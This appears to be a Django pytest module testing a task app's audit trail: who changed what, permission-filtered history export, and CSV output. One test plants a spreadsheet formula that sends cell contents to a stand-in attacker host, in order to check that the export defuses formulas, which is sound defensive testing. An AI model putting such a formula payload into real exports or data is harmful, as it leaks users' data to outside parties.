"""Every change to a task and its parts is recorded: who, when, before and after, whichever door it came through."""

import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from tasks import services
from tasks.history import task_history
from tasks.models import Task

pytestmark = pytest.mark.django_db


def lines(entries, **match):
    return [e for e in entries if all(getattr(e, k) == v for k, v in match.items())]


def test_an_api_change_names_the_user_and_both_values(world, api, personas):
    response = api("supervisor").patch(
        reverse("task-detail", kwargs={"pk": world.task_a.pk}), {"due_date": "2026-07-31"}, format="json"
    )
    assert response.status_code == 200
    [line] = lines(task_history(task=world.task_a), object_type="task", field="due_date")
    assert (line.user_id, line.before, line.after, line.action) == (
        personas.supervisor.pk,
        "2026-06-30",
        "2026-07-31",
        "修改",
    )


def test_service_changes_are_recorded_with_the_acts_they_belong_to(world, api, personas, today):
    client = api("supervisor")
    assert (
        client.post(
            reverse("progress-report-review", kwargs={"pk": world.report_a.pk}), {"decision": "approve"}, format="json"
        ).status_code
        == 200
    )
    assert (
        client.post(
            reverse("extension-request-decide", kwargs={"pk": world.extension_a.pk}),
            {"decision": "approve"},
            format="json",
        ).status_code
        == 200
    )
    entries = task_history(task=world.task_a)

    [review] = lines(entries, object_type="progressreport", field="review_state")
    assert (review.before, review.after, review.user_id) == ("待审核", "已通过", personas.supervisor.pk)
    [progress] = lines(entries, object_type="assignment", field="progress")
    assert (progress.before, progress.after) == ("0", "40")
    [due] = lines(entries, object_type="assignment", field="due_date")
    assert (due.before, due.after, due.user_id) == ("", "2026-08-31", personas.supervisor.pk)
    acts = [e.action for e in lines(entries, source="activity")]
    assert {"提交进展报告", "审核通过", "申请延期", "批准延期", "批准延期,调整时限"} <= set(acts)
    # creations are lines too: the task, its assignment, its phase, the report, the request
    created = {e.object_type for e in lines(entries, action="创建")}
    assert created == {"task", "assignment", "phase", "progressreport", "extensionrequest"}
    assert [e.at for e in entries] == sorted(e.at for e in entries)


def test_changes_outside_any_request_are_recorded_as_the_system(world):
    task = Task.objects.get(pk=world.task_a.pk)
    task.title = "校舍改造(一期)"
    task.save()
    [line] = lines(task_history(task=task), field="title")
    assert (line.user, line.user_id, line.before, line.after) == ("系统", None, "校舍改造", "校舍改造(一期)")


def test_admin_changes_are_recorded(world, client, personas):
    personas.supervisor.is_staff = personas.supervisor.is_superuser = True
    personas.supervisor.save()
    client.force_login(personas.supervisor)
    from tasks.models import Phase

    phase = Phase.objects.get(task=world.task_a)
    # The phase's change form, as the admin page would post it.
    response = client.post(
        reverse("admin:tasks_phase_change", args=[phase.pk]),
        {"task": world.task_a.pk, "kind": "evaluation", "name": "评估阶段", "position": 0, "start_date": "",
         "end_date": "", "text": ""},
    )  # fmt: skip
    assert response.status_code == 302, response.content.decode()[:2000]
    [line] = lines(task_history(task=world.task_a), object_type="phase", field="kind")
    assert (line.before, line.after, line.user_id) == ("运行", "评估", personas.supervisor.pk)


def test_history_export_follows_the_task_permissions(world, api, personas, today):
    # department B works on task_a too, and has a report there that department A must not read
    (part,) = services.task_assign(task=world.task_a, co=[personas.dept_b])
    services.progress_report_submit(assignment=part, author=personas.liaison_b, text="配合完成", percent=100)
    url = reverse("task-history", kwargs={"pk": world.task_a.pk})

    assert api("liaison_b").get(reverse("task-history", kwargs={"pk": world.task_c.pk})).status_code == 200
    assert api("liaison_a").get(reverse("task-history", kwargs={"pk": world.task_c.pk})).status_code == 404
    assert api(None).get(url).status_code in (401, 403)

    everything = api("viewer").get(url).json()
    own = api("liaison_a").get(url).json()
    b_reports = {e["object_id"] for e in everything if e["object_type"] == "progressreport"} - {world.report_a.pk}
    assert b_reports
    assert not {e["object_id"] for e in own if e["object_type"] == "progressreport"} & b_reports
    assert {e["object_type"] for e in own} >= {"task", "phase", "assignment", "progressreport"}

    response = api("liaison_a").get(url, {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["时间", "操作人", "对象类型"]
    assert len(rows) == len(own) + 1


def test_history_export_defuses_formulas(world, api):
    task = Task.objects.get(pk=world.task_a.pk)
    task.title = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    task.save()
    response = api("supervisor").get(reverse("task-history", kwargs={"pk": task.pk}), {"format": "csv"})
    cells = [c for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) for c in row]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_history_endpoint_in_schema_and_json_shape(world, api):
    body = api("supervisor").get(reverse("task-history", kwargs={"pk": world.task_a.pk})).json()
    assert body and set(body[0]) >= {"at", "user", "object_type", "object", "action", "field", "before", "after"}
    assert date.fromisoformat(body[0]["at"][:10])
